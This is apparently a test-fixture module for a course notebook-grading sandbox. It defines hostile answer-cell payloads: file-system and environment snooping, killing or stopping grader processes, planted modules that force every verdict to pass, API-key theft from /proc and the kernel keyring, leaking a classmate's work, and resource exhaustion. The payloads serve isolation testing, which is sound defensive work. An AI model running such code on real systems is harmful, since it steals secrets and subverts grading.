"""Answer-cell code that goes after the instructor, the classmates and the grader (issues 24, 26, 29).

Each is added to an otherwise right or unsolved answer cell by the tests of ``test_hostile_class.py``
(those after the kernel's own, per machine or per user: ``test_isolation.py``).
Paths and ports are written into the code: the attacker is assumed to know them (an answer cell can
read them off the grading command's own command line when nothing stops it).
"""

from __future__ import annotations

from pathlib import Path


def snooping(marker: str, port: int, places: list[Path]) -> str:
    """Issue 24's attack: read the environment, walk the file system for notebooks and the report,
    append to the report, connect to a local port, list the home folder, then write all it found
    under every temporary folder (and each place it was told of)."""
    return f"""
import json as _json, os as _os, socket as _socket, tempfile as _tempfile
_found = {{"env": dict(_os.environ), "files": {{}}, "homes": {{}}}}
_places = {[str(p) for p in places]!r}
_SYSTEM = ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "etc", "dev")
_walked = 0
for _top in ["/", *_places]:
    for _root, _dirs, _files in _os.walk(_top):
        _walked += 1
        _dirs[:] = [] if _walked > 3000 else [d for d in _dirs if _root != "/" or d not in _SYSTEM]
        for _name in _files:
            if _name.endswith((".ipynb", ".csv", ".json", ".html", ".txt")) and len(_found["files"]) < 500:
                _path = _os.path.join(_root, _name)
                try:
                    _found["files"][_path] = open(_path, errors="replace").read(300)
                except OSError:
                    pass
for _place in _places:
    for _name in ("state.json", "grades.csv", "index.html"):
        try:
            with open(_os.path.join(_place, _name), "a") as _f:
                _f.write("FORGED {marker}")
        except OSError:
            pass
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=1) as _s:
        _s.sendall(b"{marker}")
except OSError:
    pass
for _home in [_os.path.expanduser("~"), *_places]:
    try:
        _found["homes"][_home] = _os.listdir(_home)
    except OSError:
        pass
_blob = _json.dumps(_found, default=str)
for _folder in [_tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", *_places]:
    try:
        with open(_os.path.join(_folder, "{marker}.json"), "w") as _f:
            _f.write(_blob)
    except OSError:
        pass
"""


# Stop every process in sight (the grading command, its workers, the judge), then answer.
STOP_EVERYTHING = """
import os as _os, signal as _signal
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGSTOP)
        except OSError:
            pass
"""

# Kill every grading process in sight but this one: the command, its workers, the classmates' jobs.
KILL_THE_GRADERS = """
import os as _os, signal as _signal
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _line = _f.read()
    except OSError:
        continue
    if _pid != _os.getpid() and (b"harness_lab" in _line or b"harness-lab" in _line):
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
"""

# What a planted module does when someone imports it: every verdict of that process becomes a pass.
PLANTED = """
import sys as _sys
_report = _sys.modules.get("harness_lab.grading.report")
if _report is not None:
    _report.Report.passed = property(lambda self: True)
    _report.Check.passed = True
    _report.guarded = lambda number, title, judge: _report.Check(number, title, True)
"""
PLANTED_NAMES = ("pprint", "jsonschema", "anthropic", "httpx", "pydantic", "typing_extensions", "opentelemetry")


def planting(places: list[Path]) -> str:
    """Round five's attack: modules the judge may import, written into every writable ``sys.path``
    entry, the working folder and each place named; a package ``harness_lab`` and start-up hooks too."""
    return f"""
import os as _os, sys as _sys
_body = {PLANTED!r}
for _dir in {{*[p or "." for p in _sys.path], _os.getcwd(), *{[str(p) for p in places]!r}}}:
    if not _os.path.isdir(_dir) or not _os.access(_dir, _os.W_OK):
        continue
    for _name in {PLANTED_NAMES!r} + ("sitecustomize", "usercustomize"):
        try:
            with open(_os.path.join(_dir, _name + ".py"), "w") as _f:
                _f.write(_body)
        except OSError:
            pass
    if _os.path.exists(_os.path.join(_dir, "harness_lab", "grading", "host.py")):
        continue  # the course's own source: a failing test must not destroy it
    try:
        _os.makedirs(_os.path.join(_dir, "harness_lab", "grading"), exist_ok=True)
        for _init in ("harness_lab/__init__.py", "harness_lab/grading/__init__.py"):
            with open(_os.path.join(_dir, _init), "w") as _f:
                _f.write(_body)
        with open(_os.path.join(_dir, "zz_planted.pth"), "w") as _f:
            _f.write("import sys; exec(" + repr(_body) + ")\\n")
    except OSError:
        pass
"""


def leaking(secret_file: Path, classmate: Path) -> str:
    """Issue 26's leak: the instructor's key and a classmate's answer, carried out in an exception."""
    return f"""
import os as _os
_key = _os.environ.get("ANTHROPIC_API_KEY", "")
for _source in [{str(secret_file)!r}] + [f"/proc/{{p}}/environ" for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _text = open(_source, "rb").read().decode(errors="replace")
    except OSError:
        continue
    for _part in _text.replace("\\0", "\\n").splitlines():
        if _part.startswith("ANTHROPIC_API_KEY="):
            _key = _key or _part.split("=", 1)[1]
try:  # the first line of the classmate's notebook that this one does not have: their own work
    _mine = set(open(_os.path.join(_os.getcwd(), _os.listdir(_os.getcwd())[0]), errors="replace").read().splitlines())
    _theirs = [l for l in open({str(classmate)!r}, errors="replace").read().splitlines() if l not in _mine][0]
except (OSError, IndexError):
    _theirs = ""
raise RuntimeError("KEY=" + _key + " THEIRS=" + _theirs + "\\nSECOND LINE " + _key)
"""


# What the kernel keeps per machine or per user, outside every namespace.

# Read the session keyring's keys, then put one of its own in the instructor's key's place.
KEYRING_THIEF = """
import ctypes as _ctypes
from harness_lab.grading.syscall_filter import number as _number
_libc = _ctypes.CDLL(None, use_errno=True)
_keyctl, _seen = _number("keyctl"), []
_ring = _libc.syscall(_keyctl, 0, _ctypes.c_long(-3), 0)  # KEYCTL_GET_KEYRING_ID, the session keyring
_seen.append(f"keyctl {_ring}/{_ctypes.get_errno()}")
_ids = _ctypes.create_string_buffer(4096)
_size = _libc.syscall(_keyctl, 11, _ctypes.c_long(_ring), _ids, 4096) if _ring >= 0 else -1  # KEYCTL_READ
for _at in range(0, max(_size, 0), 4):
    _value = _ctypes.create_string_buffer(512)
    _got = _libc.syscall(_keyctl, 11, _ctypes.c_long(int.from_bytes(_ids.raw[_at : _at + 4], "little")), _value, 512)
    _seen.append("read " + _value.raw[: max(_got, 0)].decode(errors="replace"))
_planted = b"planted by a learner"
_added = _libc.syscall(_number("add_key"), b"user", b"anthropic_api_key", _planted, len(_planted), _ctypes.c_long(-3))
_seen.append(f"add_key {_added}/{_ctypes.get_errno()}")
raise RuntimeError(" ".join(_seen))
"""

# The grading command as an instructor's login starts it: a session keyring holding a key
# (``python -c WITH_A_SESSION_KEY SECRET COMMAND...``); prints the key's value once the command ended.
WITH_A_SESSION_KEY = """
import ctypes, subprocess, sys
from harness_lab.grading.syscall_filter import number
libc = ctypes.CDLL(None, use_errno=True)
keyctl, secret = number("keyctl"), sys.argv[1].encode()
if keyctl is None or libc.syscall(keyctl, 1, b"instructor-login", None) < 0:  # KEYCTL_JOIN_SESSION_KEYRING
    sys.exit(77)  # no keyrings here
key = libc.syscall(number("add_key"), b"user", b"anthropic_api_key", secret, len(secret), ctypes.c_long(-3))
code = subprocess.run(sys.argv[2:]).returncode
value = ctypes.create_string_buffer(512)
size = libc.syscall(keyctl, 11, ctypes.c_long(key), value, 512)
print("KEY AFTER:", value.raw[: max(size, 0)].decode(errors="replace"))
sys.exit(code)
"""

# Fill /dev (bwrap's tmpfs, the host's own when a normal user grades), then use what /dev is for.
DEVICES = """
_seen = []
try:
    with open("/dev/hl-planted", "wb") as _f:
        _f.write(b"x" * (1 << 20))
    _seen.append("dev: written")
except OSError as _error:
    _seen.append(f"dev: refused {_error.errno}")
with open("/dev/null", "wb") as _f:
    _f.write(b"x")
_read = sum(len(open(f"/dev/{_name}", "rb").read(4)) for _name in ("zero", "urandom", "random"))
with open("/dev/shm/hl-shared", "wb") as _f:
    _f.write(b"x")
raise RuntimeError(f"{_seen[0]}, null written, {_read} bytes read, shm written")
"""

# Take pseudo-terminals from the machine's one pool (kernel.pty.max) until it is empty.
PTYS = """
import os as _os
_opened, _how = [], "all"
try:
    while len(_opened) < 64:
        _opened.append(_os.open("/dev/ptmx", _os.O_RDWR | _os.O_NOCTTY))
except OSError as _error:
    _how = f"refused {_error.errno}"
raise RuntimeError(f"ptys: {len(_opened)} opened, then {_how}")
"""

# Make empty files in /tmp until refused: none takes a block of the folder's size, each some of the kernel's memory.
INODES = """
import os as _os
_made, _how = 0, "all"
try:
    while _made < 100_000:
        _os.close(_os.open(f"/tmp/{_made}", _os.O_CREAT | _os.O_WRONLY))
        _made += 1
except OSError as _error:
    _how = f"refused {_error.errno}"
raise RuntimeError(f"inodes: {_made} made, then {_how}")
"""

# Take every inotify instance of the user (128), counted up the user namespaces to the instructor.
INOTIFY = """
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
_held = []
while len(_held) < 200 and (_fd := _libc.inotify_init1(0)) >= 0:
    _held.append(_fd)
raise RuntimeError(f"inotify: {len(_held)} held, then errno {_ctypes.get_errno()}")
"""

# Open files until refused (the machine's file table was filled this way), then read the key listing.
FILES_AND_KEYS = """
import resource as _resource
_soft, _hard = _resource.getrlimit(_resource.RLIMIT_NOFILE)
try:
    _resource.setrlimit(_resource.RLIMIT_NOFILE, (_hard * 2, _hard * 2))
    _raised = "raised"
except (ValueError, OSError):
    _raised = "kept"
_held = []
try:
    while len(_held) < 100_000:
        _held.append(open("/dev/null"))
except OSError:
    pass
_count = len(_held)
for _file in _held:
    _file.close()
with open("/proc/keys", "rb") as _f:
    _keys = len(_f.read())
raise RuntimeError(f"files: hard {_hard}, {_raised}, {_count} held; keys listed: {_keys} bytes")
"""

# In each criterion's child, answer in the judge's place: a summary whose shown default is 30 MB.
BIG_HINT = """
from harness_lab.grading import bridge as _bridge, sandbox as _sandbox
if _bridge._link is not None:
    _sandbox._channel(("ok", {"default": None, "default_shown": "A" * 30_000_000, "shape": "by_name",
                              "shape_shown": "dict", "listed": {}, "calls": []}))
"""
